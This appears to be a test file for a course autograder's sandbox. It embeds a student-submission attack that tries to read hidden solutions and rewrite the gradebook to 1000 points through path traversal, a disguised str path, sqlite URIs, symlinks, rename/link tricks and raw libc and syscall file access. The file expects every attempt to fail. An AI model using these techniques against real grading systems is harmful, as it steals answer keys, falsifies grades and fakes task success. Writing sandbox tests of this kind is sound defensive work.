"""Reaching the course's files by every kind of path: must find and change nothing.

dJ_dz is left unanswered, to be replaced by the instructor's code once the solutions are read.
The attempts, with the course directory's path known (guessed or leaked):
- os.open relative to a directory file descriptor: ../ up to six levels from the notebook's
  folder, and the solutions relative to a descriptor of the course directory;
- a str subclass and a pathlib.Path as the path; the sqlite3 `file:` URI of the gradebook,
  read (the source cells hold the hidden tests) and written (manual scores);
- symbolic links created in its own folder pointing at the solutions, the gradebook and the
  course directory, then read and written through;
- the second argument of os.rename, os.replace, os.link and shutil.copy into solutions/,
  notebooks/ and the course root;
- libc's open, openat and write called through ctypes, and the raw openat system call.
Under bubblewrap none of the course exists in the sandbox (ENOENT); under Landlock alone, the
course is outside the readable and writable folders (EACCES). dJ_dz and backward score 0.
"""

from . import ATTEMPT

ATTACK = ATTEMPT + r'''
import ctypes
import os
import pathlib
import shutil
import sqlite3

COURSE = @COURSE@
MARK = @MARK@
SOLUTIONS = "solutions/2_backprop/backprop.ipynb"
texts = []


def read_fd(fd):
    try:
        return os.read(fd, 10_000_000).decode(errors="replace")
    finally:
        os.close(fd)


here = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
for up in range(1, 7):
    relative = "../" * up + SOLUTIONS
    texts.append(attempt(f"openat(notebook folder, {'../' * up}solutions)",
                         lambda: read_fd(os.open(relative, os.O_RDONLY, dir_fd=here))))
course_fd = attempt("open the course directory", lambda: os.open(COURSE, os.O_RDONLY))
if course_fd is not None:
    texts.append(attempt("openat(course, solutions)",
                         lambda: read_fd(os.open(SOLUTIONS, os.O_RDONLY, dir_fd=course_fd))))


class Innocent(str):
    """A path that does not look like one."""

    def __fspath__(self):
        return str.__str__(self)

    def __str__(self):
        return "notes.txt"


texts.append(attempt("open(str subclass)",
                     lambda: open(Innocent(f"{COURSE}/{SOLUTIONS}")).read()))
texts.append(attempt("pathlib.Path.read_text",
                     lambda: (pathlib.Path(COURSE) / SOLUTIONS).read_text()))


def gradebook(uri):
    db = sqlite3.connect(uri, uri=True)
    print(db.execute("SELECT source FROM source_cell").fetchall())
    db.execute("UPDATE grade SET manual_score = 1000, extra_credit = 1000")
    db.commit()
    return "gradebook rewritten"


attempt("sqlite3 file: URI of the gradebook", lambda: gradebook(f"file:{COURSE}/gradebook.db"))
attempt("sqlite3 file: URI, immutable", lambda: gradebook(
    f"file:{COURSE}/gradebook.db?immutable=1"))
attempt("sqlite3 file: URI, relative", lambda: gradebook("file:../../../gradebook.db?mode=rw"))

for name, target in [("answers.ipynb", f"{COURSE}/{SOLUTIONS}"),
                     ("grades.db", f"{COURSE}/gradebook.db"), ("course", COURSE)]:
    attempt(f"symlink {name} -> the course", lambda: os.symlink(target, name))
texts.append(attempt("read through the symlink", lambda: open("answers.ipynb").read()))
texts.append(attempt("read through the folder symlink",
                     lambda: open(f"course/{SOLUTIONS}").read()))
attempt("sqlite3 through the symlink", lambda: gradebook("file:grades.db"))
attempt("write through the folder symlink",
        lambda: open(f"course/{MARK}-symlink", "w").write("x"))

for place in (f"{COURSE}/{MARK}-root", f"{COURSE}/solutions/2_backprop/{MARK}.py",
              f"{COURSE}/notebooks/2_backprop/{MARK}.py", f"../../../{MARK}-relative"):
    with open(f"{MARK}-local", "w") as local:
        local.write("planted")
    shown = place.replace(COURSE, "<course>")
    attempt(f"os.rename to {shown}", lambda: os.rename(f"{MARK}-local", place))
    attempt(f"os.replace to {shown}", lambda: os.replace(f"{MARK}-local", place))
    attempt(f"os.link to {shown}", lambda: os.link(f"{MARK}-local", place))
    attempt(f"shutil.copy to {shown}", lambda: shutil.copy(f"{MARK}-local", place))

libc = ctypes.CDLL(None, use_errno=True)
libc.open.argtypes = [ctypes.c_char_p, ctypes.c_int, ctypes.c_int]
libc.openat.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_int, ctypes.c_int]
libc.write.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_size_t]


def checked(fd):
    if fd < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return fd


texts.append(attempt("libc open(solutions)", lambda: read_fd(checked(libc.open(
    f"{COURSE}/{SOLUTIONS}".encode(), os.O_RDONLY, 0)))))
texts.append(attempt("libc openat(AT_FDCWD, ../../../solutions)", lambda: read_fd(checked(
    libc.openat(-100, f"../../../{SOLUTIONS}".encode(), os.O_RDONLY, 0)))))
texts.append(attempt("syscall openat(solutions)", lambda: read_fd(checked(libc.syscall(
    257, -100, f"{COURSE}/{SOLUTIONS}".encode(), os.O_RDONLY, 0)))))
attempt("libc open+write a file in the course", lambda: libc.write(checked(libc.open(
    f"{COURSE}/{MARK}-libc".encode(), os.O_WRONLY | os.O_CREAT, 0o644)), b"planted", 7))

for text in texts:
    if text:
        steal(text)
'''

OVERRIDES = {"dJ_dz": ATTACK + '''

if "dJ_dz" not in globals():
    def dJ_dz(delta1, U, h):
        raise NotImplementedError()
'''}
EXPECTED = {"zero": ["test_dJ_dz", "test_backward"], "status": "graded", "flags": []}
